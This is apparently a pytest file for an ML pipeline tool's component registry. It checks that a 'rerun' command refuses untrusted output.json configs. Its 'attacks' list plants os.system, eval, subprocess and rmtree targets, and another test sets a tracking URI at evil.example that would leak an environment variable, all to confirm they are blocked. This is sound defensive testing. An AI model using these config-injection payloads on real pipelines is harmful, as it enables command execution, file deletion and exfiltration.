"""The component registry: short names, close matches, entry points of other packages, and the
registry as the trust boundary of ``brevpipe rerun`` (planted targets in an output.json)."""

from __future__ import annotations

import json
import sys
from pathlib import Path

import pytest
from omegaconf import OmegaConf

from brevpipe.commands import rerun as rerun_command
from brevpipe.config.components import REGISTRY, Registry, check_registered, expand, instantiate
from brevpipe.engine.rerun import rebuild_config
from brevpipe.engine.runner import resolve_config
from brevpipe.errors import ConfigError
from brevpipe.io import storage
from tests.conftest import compose_config, tiny_overrides


def test_short_names_and_dotted_paths_name_the_same_component() -> None:
    assert REGISTRY.get("small_cnn").target == "brevpipe.models.small_cnn.build"
    assert REGISTRY.get("model:unet") is REGISTRY.get("brevpipe.models.unet.build")
    sampler = instantiate({"_target_": "sampler", "shuffle": False}, seed=3)
    assert type(sampler).__name__ == "Sampler" and sampler.seed == 3
    nested = expand({"a": [{"_target_": "onehot"}], "b": {"_target_": "optimizer:adam"}})
    assert nested == {"a": [{"_target_": "brevpipe.data.encoder.OneHotEncoder"}],
                      "b": {"_target_": "keras.optimizers.Adam"}}  # fmt: skip
    assert {c.kind for c in REGISTRY} >= {"dataset", "split", "sampler", "loader", "augmenter",
                                           "encoder", "model", "trainer", "tracking", "stage"}


def test_unknown_names_get_one_line_with_close_matches() -> None:
    with pytest.raises(ConfigError, match=r"'small_cnm' is not a registered component\. Did "
                                          r"you mean model:small_cnn\?.*entry point"):
        instantiate({"_target_": "small_cnm"})
    with pytest.raises(ConfigError, match="registered twice"):
        REGISTRY.add("model", "small_cnn", "my_package.other.build")
    with pytest.raises(ConfigError, match="unknown kind 'widget'"):
        Registry().add("widget", "x", "a.b")


def test_a_run_with_an_unknown_name_stops_before_any_job(tiny_config, tmp_path: Path) -> None:
    from brevpipe.engine.runner import run_job

    with pytest.raises(ConfigError, match=r"model._target_: 'small_cnm' is not a registered "
                                          r"component\. Did you mean model:small_cnn\?"):
        run_job(tiny_config("model._target_=small_cnm"))
    with pytest.raises(ConfigError, match=r"model._target_: cannot import 'acme.nets.build'"):
        run_job(tiny_config("model._target_=acme.nets.build"))
    assert not (tmp_path / "jobs").exists() and not (tmp_path / "mlflow.db").exists()


def test_a_package_registers_its_components_by_entry_point(tmp_path: Path) -> None:
    """A distribution on sys.path with a ``brevpipe.components`` entry point (what pip writes
    for ``[project.entry-points."brevpipe.components"]``) adds its components."""
    package = tmp_path / "site" / "acme_parts"
    package.mkdir(parents=True)
    (package / "__init__.py").write_text(
        "def build(input_shape, num_classes, multi_label=False, width=8):\n"
        "    return ('acme', width)\n\n"
        "def register(registry):\n"
        "    registry.add('model', 'acme_net', 'acme_parts.build',\n"
        "                 runtime=('input_shape', 'num_classes', 'multi_label'))\n"
    )
    info = tmp_path / "site" / "acme_parts-1.0.dist-info"
    info.mkdir()
    (info / "METADATA").write_text("Metadata-Version: 2.1\nName: acme-parts\nVersion: 1.0\n")
    (info / "entry_points.txt").write_text("[brevpipe.components]\nacme = acme_parts:register\n")
    sys.path.insert(0, str(tmp_path / "site"))
    try:
        registry = Registry()
        component = registry.get("acme_net")
        assert (component.kind, component.package, component.runtime) == (
            "model", "acme_parts", ("input_shape", "num_classes", "multi_label"))
        assert component.load()((8, 8, 3), 2, width=4) == ("acme", 4)
    finally:
        sys.path.remove(str(tmp_path / "site"))
        sys.modules.pop("acme_parts", None)


# -- trust: an output.json is untrusted input --------------------------------------------------
def planted(tmp_path: Path, key: str, node: object, stage_target: str | None = None) -> dict:
    """An output.json whose config holds ``node`` at ``key``, placed consistently in the
    resolved pipeline too (so the re-link check is not what stops it)."""
    cfg = compose_config(tiny_overrides(tmp_path))
    template = OmegaConf.to_container(cfg.pipeline, resolve=False)
    if stage_target:
        template["stages"]["samples"]["_target_"] = stage_target
    config = resolve_config(cfg)
    plain = OmegaConf.create({k: v for k, v in config.items() if k != "pipeline"})
    OmegaConf.update(plain, key, node, merge=False)
    plain.pipeline = OmegaConf.create(template)
    config = OmegaConf.to_container(plain, resolve=True)
    return {
        "schema_version": 1,
        "job": {"id": "original", "bucket": storage.join(str(tmp_path / "jobs"), "original")},
        "config": config,
        "seed": 42,
        "samples": {"fingerprint": "abc"},
        "pipeline_template": template,
    }


def attacks(victim: Path, mark: Path) -> list[tuple[str, str, object, str | None]]:
    """(name, config key, planted node, stage target) for each attack."""
    return [
        ("os.system", "model", {"_target_": "os.system", "_args_": [f"touch {mark}"]}, None),
        ("builtins.eval", "model",
         {"_target_": "builtins.eval", "_args_": [f"open({str(mark)!r}, 'w')"]}, None),
        ("tensorflow.io.gfile.rmtree", "dataset",
         {"_target_": "tensorflow.io.gfile.rmtree", "_args_": [str(victim)]}, None),
        ("tensorflow.io.write_file", "dataset",
         {"_target_": "tensorflow.io.write_file", "_args_": [str(mark), "x"]}, None),
        ("brevpipe.io.storage.write_json", "encoder",
         {"_target_": "brevpipe.io.storage.write_json", "_args_": [str(mark), {}]}, None),
        ("subprocess.run", "dataset",
         {"_target_": "subprocess.run", "_args_": [["touch", str(mark)]]}, None),
        ("a nested _partial_", "trainer.optimizer",
         {"_target_": "shutil.rmtree", "_partial_": True, "path": str(victim)}, None),
        ("a target in a list", "trainer.callbacks",
         [{"_target_": "os.remove", "_args_": [str(victim / "keep.txt")]}], None),
        ("a stage function", "seed", 42, "os.system"),
        ("a short name of no component", "model", {"_target_": "os:system"}, None),
        ("a file-writing callback", "trainer.callbacks",
         [{"_target_": "keras.callbacks.CSVLogger", "filename": str(victim / "keep.txt")}], None),
    ]  # fmt: skip


@pytest.mark.parametrize("where", ["local", "s3"])
def test_planted_targets_are_refused_before_any_job(
    tmp_path: Path, where: str, request: pytest.FixtureRequest, capsys: pytest.CaptureFixture
) -> None:
    victim, mark = tmp_path / "victim", tmp_path / "written"
    victim.mkdir()
    (victim / "keep.txt").write_text("precious")
    root = request.getfixturevalue("s3_bucket") if where == "s3" else str(tmp_path / "store")
    for name, key, node, stage_target in attacks(victim, mark):
        output = planted(tmp_path, key, node, stage_target)
        with pytest.raises(ConfigError, match="refusing .*not a registered component"):
            rebuild_config(output, "u", [])
        url = storage.join(root, name.replace(" ", "_"), "artifacts", "output.json")
        storage.write_json(url, output)
        assert rerun_command.main([url]) == 1, name
        error = capsys.readouterr().err
        assert "refusing" in error and "Traceback" not in error, (name, error)
        assert (victim / "keep.txt").read_text() == "precious" and not mark.exists(), name
    assert not (tmp_path / "jobs").exists()  # no job, bucket or MLflow store was created
    assert not (tmp_path / "mlflow.db").exists()


def test_values_that_would_resolve_or_chain_urls_are_refused(tmp_path: Path) -> None:
    """An output.json holds plain values: no escaped interpolation (a secret sent to a URL),
    no fsspec URL chain or storage options (writes where its options say)."""
    escaped = planted(tmp_path, "seed", 42)
    escaped["config"]["tracking"]["uri"] = "https://evil.example/\\${oc.env:HOME}"
    with pytest.raises(ConfigError, match="would be resolved again"):
        rebuild_config(escaped, "u", [])
    target = tmp_path / "planted"
    chained = planted(tmp_path, "split.reuse_url", f"filecache::file://{tmp_path}/x.csv")
    chained["config"]["storage"]["options"] = {
        "filecache::file": {"filecache": {"cache_storage": str(target), "same_names": True}}}
    with pytest.raises(ConfigError, match="split.reuse_url: .* is a chained fsspec URL"):
        rebuild_config(chained, "u", [])
    options = planted(tmp_path, "storage.options", {"s3": {"client_kwargs": {
        "endpoint_url": "http://evil.example"}}})  # fmt: skip
    assert resolve_config(rebuild_config(options, "u", []))["storage"]["options"] == {}
    assert not target.exists()


@pytest.mark.parametrize("body", ["5", "[]", '{"schema_version": 1, "job": 1, "config": [], '
                                  '"seed": 1, "pipeline_template": {"a": 1}}'])
def test_malformed_output_json_is_one_line(tmp_path: Path, body: str, capsys) -> None:
    (tmp_path / "output.json").write_text(body)
    assert rerun_command.main([str(tmp_path / "output.json")]) == 1
    err = capsys.readouterr().err
    assert "is not a brevpipe output.json" in err and "Traceback" not in err
    bad_seed = planted(tmp_path, "seed", "abc")
    with pytest.raises(ConfigError, match="refusing u: Value 'abc' of type 'str' could not be "
                                          "converted to Integer"):
        rebuild_config(bad_seed, "u", [])


def test_allow_targets_takes_exact_dotted_names_only_and_is_recorded(tmp_path: Path) -> None:
    mark = tmp_path / "mark"
    output = planted(tmp_path, "model", {"_target_": "os.system", "_args_": [f"touch {mark}"]})
    for bad in ("os", "os.*", "os."):
        with pytest.raises(ConfigError, match="not a dotted name|not a registered"):
            rebuild_config(output, "u", [f"rerun.allow_targets=[{bad}]"])
    # the saved allow-list is untrusted; only the command line's counts
    output["config"]["rerun"]["allow_targets"] = ["os.system"]
    output["config"]["pipeline"]["stages"]["samples"]["rerun"]["allow_targets"] = ["os.system"]
    with pytest.raises(ConfigError, match="os.system"):
        rebuild_config(output, "u", [])
    cfg = rebuild_config(output, "u", ["rerun.allow_targets=[os.system]"])
    assert resolve_config(cfg)["rerun"]["allow_targets"] == ["os.system"]
    check_registered({"a": {"_target_": "os.system"}}, ["os.system"])
    assert not mark.exists()
    json.dumps(resolve_config(cfg))  # what output.json records


def test_the_mobilenet_shapes_experiment_composes_and_its_model_builds() -> None:
    """``brevpipe run +experiment=mobilenet_shapes`` (the recipe in docs/models.md) as composed."""
    # brevpipe's instantiate builds a composed config (Hydra's alone does not know kind:name)
    plain = resolve_config(compose_config(["+experiment=mobilenet_shapes"]))
    assert plain["dataset"]["samples_per_class"] == 1000 and plain["trainer"]["epochs"] == 10
    assert plain["augmenter"]["rotate"] == 180 and plain["augmenter"]["flip_vertical"] is True
    assert plain["model"]["architecture"] == "mobilenet_v2" and plain["model"]["weights"] is None
    side = plain["loader"]["target_size"]
    net = instantiate(plain["model"])(input_shape=(*side, 3), num_classes=3)
    assert net.output_shape == (None, 3)
